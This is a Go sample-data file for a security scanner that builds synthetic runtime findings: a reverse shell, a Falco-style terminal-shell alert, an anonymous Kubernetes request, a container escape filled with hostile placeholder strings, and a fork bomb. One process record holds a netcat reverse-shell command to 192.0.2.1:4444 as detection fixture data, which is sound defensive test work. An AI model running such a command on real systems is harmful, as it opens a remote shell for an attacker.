package sample

import (
	"time"

	"bulwark"
)

// Running are findings of running things of every shape: of a container in a pod, of the node, of a rule in Falco's language, of an
// audit log without a process, of a container of which nothing is known.
func Running() []*bulwark.Finding {
	at := Now.Add(123456789 * time.Nanosecond)
	shell := &bulwark.ProcessRef{PID: 4242, Name: "sh", Path: "/bin/dash", Args: []string{"sh", "-c", "nc 192.0.2.1 4444"}, CWD: "/srv", UID: 33, User: "www-data", TTY: true, Start: Now,
		Parents: []bulwark.ProcessRef{{PID: 4000, Name: "nginx", Path: "/usr/sbin/nginx", Args: []string{"nginx: worker process"}, UID: 33, Start: Now.Add(-time.Hour)}, {PID: 3999, Name: "containerd-shim", UID: 0}}}
	web := &bulwark.ContainerRef{ID: "3f2a1b4c5d6e7f80112233445566778899aabbccddeeff001122334455667788", Name: "web", Image: "registry.example.com:5000/shop/web:1.4", Digest: Base, Engine: "containerd", Pod: "web-1", Namespace: "shop"}
	return []*bulwark.Finding{
		{Key: bulwark.Key(bulwark.KindRuntime, "shell/reverse", "sh", "/bin/dash"), Kind: bulwark.KindRuntime, Rule: "shell/reverse", Severity: bulwark.SeverityCritical, Risk: 90, Title: "A shell talks to the network",
			Asset: "image:" + Base, Subject: "/bin/dash", Count: 12, Evidence: []string{"its input and output are a socket to 192.0.2.1:4444"}, Tags: []string{"attack:T1059.004", "mitre_execution"},
			References: []string{"https://attack.mitre.org/techniques/T1059/004/"}, Fix: &bulwark.Fix{Text: "Stop the container, and look at what it has served."}, Time: at, Process: shell, Container: web},
		{Key: "k2", Kind: bulwark.KindRuntime, Rule: "rules/terminal-shell-in-container", Severity: bulwark.SeverityLow, Title: "Terminal shell in container", Asset: "host:node-1", Tags: []string{"container", "T1059", "mitre_execution", "shell", "shell"}, Time: at, Process: shell, Container: web,
			Alert: &bulwark.Alert{Rule: "Terminal shell in container", Priority: "NOTICE", Source: "syscall", Output: "A shell was spawned in a container | proc_tty=34816 container_id=3f2a1b4c5d6e",
				Fields: []bulwark.AlertField{{Name: "evt.time", Value: "12:00:00.123456789"}, {Name: "proc.tty", Value: 34816}, {Name: "container.id", Value: "3f2a1b4c5d6e"}, {Name: "user.name", Value: nil}}}},
		{Key: "k3", Kind: bulwark.KindRuntime, Rule: "rules/anonymous", Severity: bulwark.SeverityUnknown, Title: "Anonymous Request Allowed", Subject: "system:anonymous", Time: at,
			Alert: &bulwark.Alert{Rule: "Anonymous Request Allowed", Priority: "WARNING", Source: bulwark.SourceK8sAudit, Output: "Request by anonymous user allowed (verb=list groups=(system:unauthenticated))",
				Fields: []bulwark.AlertField{{Name: "ka.user.groups", Value: []string{"system:unauthenticated"}}}}},
		{Key: "k4", Kind: bulwark.KindRuntime, Rule: "escape/core-pattern", Severity: bulwark.SeverityHigh, Title: Evil, Asset: "host:" + Evil, Evidence: []string{Evil + "\n" + Evil}, Time: at,
			Process:   &bulwark.ProcessRef{PID: 7, Name: Evil, Args: []string{Evil, "\xff\xfe"}, User: Evil, CWD: Evil, Path: "/" + Evil, Parents: []bulwark.ProcessRef{{PID: 1, Name: Evil}}},
			Container: &bulwark.ContainerRef{ID: "short", Missing: "no engine knows it " + Evil, Image: Evil, Pod: Evil}},
		{Key: "k5", Kind: bulwark.KindRuntime, Rule: "abuse/fork-bomb", Severity: bulwark.SeverityMedium, Title: "Forks without end", Asset: "host:node-1", Process: &bulwark.ProcessRef{PID: 9, Name: "bomb"}},
	}
}
